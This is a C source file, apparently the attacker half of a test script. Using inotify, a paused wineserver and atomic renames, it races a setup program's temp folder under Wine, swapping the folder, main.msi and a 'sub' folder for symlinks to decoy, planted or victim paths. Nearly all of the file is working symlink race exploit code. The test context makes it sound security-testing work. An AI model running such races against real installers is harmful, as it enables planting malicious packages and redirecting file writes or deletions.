/* The attacker of wrapper_racer_test.sh: a native Linux process that watches
 * the temporary folder of a setup program with inotify and swaps what it
 * finds there for links, as fast as it can.
 *
 * It plays by Windows' rules: under Wine, share modes bind only Windows
 * processes, so it changes a name only while the wineserver holds no
 * descriptor of the file or folder under it (the server is stopped for the
 * look at /proc/<server>/fd and the swap, then let go on).
 *
 *   folder_racer <link|package|removal> <temp dir> <scratch dir> <server pid> <n>
 *
 * link     the new "<n>.tmp" folder is renamed away and a link to the empty
 *          folder <scratch>/decoy put in its place; should anything appear
 *          in the decoy, the link is turned to <scratch>/planted.
 * package  main.msi, once written and closed, is moved to <scratch>/ours.msi
 *          and a link put in its place: to that file for an odd <n>, to
 *          <scratch>/planted/main.msi for an even one. A link to our own
 *          package passes every check of content and identity.
 * removal  a folder "sub" with a file is added beside main.msi; once msiexec
 *          reads main.msi, "sub" and main.msi are swapped, again and again,
 *          with links to <scratch>/victim and <scratch>/victim.txt.
 *
 * Writes <scratch>/ready once it watches; on SIGTERM prints how many swaps it
 * made and whether anything was written into the decoy, and exits. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static pid_t server;
static volatile sig_atomic_t stop;
static char temp[PATH_MAX], scratch[PATH_MAX], folder[PATH_MAX];
static int swaps, decoyWritten;

static void onTerm(int sig) {
    (void)sig;
    stop = 1;
    kill(server, SIGCONT);
}

static void pauseServer(void) {
    char path[64], state[512];
    kill(server, SIGSTOP);
    snprintf(path, sizeof path, "/proc/%d/stat", (int)server);
    for (int i = 0; i < 10000; ++i) {
        FILE *f = fopen(path, "r");
        char *s = f && fgets(state, sizeof state, f) ? strrchr(state, ')') : NULL;
        if (f) fclose(f);
        if (!s || s[2] == 'T' || s[2] == 't') return;
    }
}

/* Whether the stopped server holds a descriptor of what `path` names. */
static int serverHolds(const char *path) {
    struct stat target, st;
    char dir[64], fd[PATH_MAX];
    if (lstat(path, &target) != 0 || S_ISLNK(target.st_mode)) return 0;
    snprintf(dir, sizeof dir, "/proc/%d/fd", (int)server);
    DIR *d = opendir(dir);
    struct dirent *e;
    int held = 0;
    while (d && !held && (e = readdir(d))) {
        snprintf(fd, sizeof fd, "%s/%s", dir, e->d_name);
        held = stat(fd, &st) == 0 && st.st_dev == target.st_dev && st.st_ino == target.st_ino;
    }
    if (d) closedir(d);
    return held;
}

/* Exchanges the names `a` and `b` when the server holds neither. */
static int exchange(const char *a, const char *b) {
    pauseServer();
    int done = !serverHolds(a) && !serverHolds(b) &&
               renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
    kill(server, SIGCONT);
    swaps += done;
    return done;
}

static void in(char *out, const char *dir, const char *name) {
    if (snprintf(out, PATH_MAX, "%s/%s", dir, name) >= PATH_MAX) exit(3);
}

int main(int argc, char **argv) {
    if (argc != 6) return 2;
    const char *variant = argv[1];
    server = atoi(argv[4]);
    int odd = atoi(argv[5]) % 2;
    snprintf(temp, sizeof temp, "%s", argv[2]);
    snprintf(scratch, sizeof scratch, "%s", argv[3]);
    struct sigaction sa = {0};
    sa.sa_handler = onTerm;
    sigaction(SIGTERM, &sa, NULL);

    char decoy[PATH_MAX], planted[PATH_MAX], link[PATH_MAX], name[PATH_MAX], other[PATH_MAX];
    in(decoy, scratch, "decoy");
    in(planted, scratch, "planted");
    int fd = inotify_init1(IN_NONBLOCK);
    int tempWatch = inotify_add_watch(fd, temp, IN_CREATE | IN_ONLYDIR);
    int decoyWatch = inotify_add_watch(fd, decoy, IN_CREATE);
    int folderWatch = -1, flipping = 0;
    in(name, scratch, "ready");
    close(open(name, O_CREAT | O_WRONLY, 0644));

    char buffer[4096] __attribute__((aligned(8)));
    while (!stop) {
        /* At once on an event; every two milliseconds while swapping. */
        struct pollfd pfd = {fd, POLLIN, 0};
        ssize_t n = poll(&pfd, 1, flipping ? 2 : -1) > 0 ? read(fd, buffer, sizeof buffer) : 0;
        for (char *p = buffer; n > 0 && p < buffer + n;) {
            struct inotify_event *ev = (struct inotify_event *)p;
            p += sizeof *ev + ev->len;
            if (ev->wd == decoyWatch) {
                decoyWritten = 1;
                /* Turn the link from the decoy to the planted folder. */
                in(link, scratch, "newlink");
                if (folder[0] && symlink(planted, link) == 0) rename(link, folder);
            } else if (ev->wd == tempWatch && !folder[0] && (ev->mask & IN_ISDIR)) {
                in(folder, temp, ev->name);
                if (strcmp(variant, "link") == 0) {
                    /* Rename the new folder away, a link to the decoy in its place. */
                    in(link, scratch, "decoylink");
                    symlink(decoy, link);
                    exchange(folder, link);
                } else {
                    folderWatch = inotify_add_watch(fd, folder, IN_CLOSE_WRITE | IN_ACCESS);
                }
            } else if (ev->wd == folderWatch && strcmp(ev->name, "main.msi") == 0) {
                in(name, folder, "main.msi");
                if (strcmp(variant, "package") == 0 && !swaps) {
                    /* The link takes main.msi's name, the package the link's:
                     * so the odd link, to its own name, leads to our package. */
                    in(link, scratch, "ours.msi");
                    in(other, planted, "main.msi");
                    symlink(odd ? link : other, link);
                    exchange(name, link);
                } else if (strcmp(variant, "removal") == 0 && (ev->mask & IN_CLOSE_WRITE)) {
                    in(name, folder, "sub");
                    mkdir(name, 0755);
                    in(other, name, "inner.txt");
                    close(open(other, O_CREAT | O_WRONLY, 0644));
                } else if (strcmp(variant, "removal") == 0 && (ev->mask & IN_ACCESS)) {
                    /* msiexec reads it (the setup program only maps it). */
                    flipping = 1;
                }
            }
        }
        struct stat st;
        if (flipping && lstat(folder, &st) != 0) {
            flipping = 0; /* removed: nothing left to race for */
        }
        if (flipping) {
            /* Both names change hands whenever the server lets them. */
            in(name, folder, "sub");
            in(link, scratch, "dirlink");
            exchange(name, link);
            in(name, folder, "main.msi");
            in(link, scratch, "filelink");
            exchange(name, link);
        }
    }
    kill(server, SIGCONT);
    printf("swaps=%d decoy_written=%d\n", swaps, decoyWritten);
    return 0;
}
